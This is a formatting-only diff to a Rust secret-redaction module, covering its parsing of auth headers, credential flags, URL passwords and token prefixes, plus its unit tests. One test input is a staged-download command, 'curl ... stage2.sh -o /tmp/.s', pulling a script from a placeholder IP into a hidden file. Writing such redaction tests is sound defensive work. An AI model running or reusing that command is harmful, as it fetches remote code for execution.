@@ -142,13 +142,20 @@ fn key_values(s: &str, spans: &mut Vec<(usize, usize)>) {
         if c == b':' && b.get(i + 1) == Some(&b'/') {
             continue;
         }
-        let mut v = if c == b':' { skip_spaces(b, i + 1) } else { i + 1 };
+        let mut v = if c == b':' {
+            skip_spaces(b, i + 1)
+        } else {
+            i + 1
+        };
         let Some((mut start, mut end)) = value_span(b, v) else {
             continue;
         };
         // `Authorization: Bearer xyz`: the scheme stays, the credential goes.
         let word = s.get(start..end).unwrap_or("").to_ascii_lowercase();
-        if matches!(word.as_str(), "bearer" | "basic" | "token" | "digest" | "negotiate") {
+        if matches!(
+            word.as_str(),
+            "bearer" | "basic" | "token" | "digest" | "negotiate"
+        ) {
             v = skip_spaces(b, end);
             match value_span(b, v) {
                 Some(sp) => (start, end) = sp,
@@ -185,7 +192,10 @@ fn flag_values(s: &str, spans: &mut Vec<(usize, usize)>) {
         let (vs, ve) = strip_quotes(b, *vs, *ve);
         if matches!(flag, "-u" | "--user" | "--proxy-user" | "-U") {
             // `user:password`: the user name stays.
-            if let Some(colon) = b.get(vs..ve).and_then(|v| v.iter().position(|&c| c == b':')) {
+            if let Some(colon) = b
+                .get(vs..ve)
+                .and_then(|v| v.iter().position(|&c| c == b':'))
+            {
                 if vs + colon + 1 < ve {
                     spans.push((vs + colon + 1, ve));
                 }
@@ -228,7 +238,10 @@ fn url_passwords(s: &str, spans: &mut Vec<(usize, usize)>) {
         let Some(at) = auth.iter().rposition(|&c| c == b'@') else {
             continue;
         };
-        if let Some(colon) = auth.get(..at).and_then(|u| u.iter().position(|&c| c == b':')) {
+        if let Some(colon) = auth
+            .get(..at)
+            .and_then(|u| u.iter().position(|&c| c == b':'))
+        {
             if colon + 1 < at {
                 spans.push((auth_start + colon + 1, auth_start + at));
             }
@@ -256,7 +269,9 @@ const TOKEN_PREFIXES: &[(&str, usize)] = &[
 ];
 
 /// Prefixes of AWS access key ids; 16 upper-case letters and digits follow.
-const AWS_KEY_PREFIXES: &[&str] = &["AKIA", "ASIA", "AGPA", "AIDA", "AROA", "ANPA", "ABIA", "ACCA"];
+const AWS_KEY_PREFIXES: &[&str] = &[
+    "AKIA", "ASIA", "AGPA", "AIDA", "AROA", "ANPA", "ABIA", "ACCA",
+];
 
 fn is_token_byte(b: u8) -> bool {
     b.is_ascii_alphanumeric() || b == b'_' || b == b'-'
@@ -322,7 +337,10 @@ mod tests {
     fn nothing_to_hide_is_not_copied() {
         let s = "curl -fsSL http://198.51.100.23/stage2.sh -o /tmp/.s";
         assert!(matches!(redact_secrets(s), Cow::Borrowed(_)));
-        assert_eq!(r("cd /tmp; ./bypass --passthrough"), "cd /tmp; ./bypass --passthrough");
+        assert_eq!(
+            r("cd /tmp; ./bypass --passthrough"),
+            "cd /tmp; ./bypass --passthrough"
+        );
         assert_eq!(r(""), "");
     }
 
@@ -342,7 +360,10 @@ mod tests {
             "AWS_ACCESS_KEY_ID=[REDACTED] aws s3 ls"
         );
         // Not 16 characters after the prefix, or lower case: not a key id.
-        assert_eq!(r("AKIA1234 AKIAiosfodnn7example"), "AKIA1234 AKIAiosfodnn7example");
+        assert_eq!(
+            r("AKIA1234 AKIAiosfodnn7example"),
+            "AKIA1234 AKIAiosfodnn7example"
+        );
         // Part of a longer word: not a key id either.
         assert_eq!(r("XAKIAIOSFODNN7EXAMPLE"), "XAKIAIOSFODNN7EXAMPLE");
     }
@@ -394,7 +415,10 @@ mod tests {
             r("curl -u admin:hunter2 http://10.0.0.5/"),
             "curl -u admin:[REDACTED] http://10.0.0.5/"
         );
-        assert_eq!(r("vault login --token 's.abc'"), "vault login --token '[REDACTED]'");
+        assert_eq!(
+            r("vault login --token 's.abc'"),
+            "vault login --token '[REDACTED]'"
+        );
         // A user name alone is not a secret.
         assert_eq!(r("curl -u admin http://x/"), "curl -u admin http://x/");
     }
@@ -426,7 +450,10 @@ mod tests {
             "curl -d t=xoxb-[REDACTED]"
         );
         let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlX2hlcmU";
-        assert_eq!(r(&format!("kubectl --server x {jwt}")), "kubectl --server x [REDACTED]");
+        assert_eq!(
+            r(&format!("kubectl --server x {jwt}")),
+            "kubectl --server x [REDACTED]"
+        );
     }
 
     #[test]
